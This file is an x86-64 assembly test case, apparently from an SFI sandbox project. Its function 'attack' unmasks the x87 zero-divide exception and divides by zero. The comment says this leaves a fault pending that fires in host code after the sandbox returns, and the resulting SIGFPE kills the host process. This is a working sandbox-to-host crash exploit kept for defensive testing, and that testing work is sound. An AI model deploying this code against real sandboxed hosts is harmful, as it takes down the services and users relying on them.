# x87_pending.s: the sandbox unmasks the x87 zero-divide exception, divides
# by zero (the exception stays pending until the next waiting x87/MMX
# instruction) and returns. sfi__enter_ret (enter.S) runs `emms` before it
# reloads the host's x87 control word: #MF in host code, SIGFPE outside the
# sandbox is chained to the default action and the host dies.
        .text
        .p2align 4, 0xcc
        .globl attack
        .type attack,@function
attack:
        subq $8, %rsp
        movw $0x37b, (%rsp)
        fldcw (%rsp)
        fld1
        fldz
        fdivrp %st, %st(1)
        addq $8, %rsp
        ret
        .include "marker.inc"
        .section .note.GNU-stack,"",@progbits
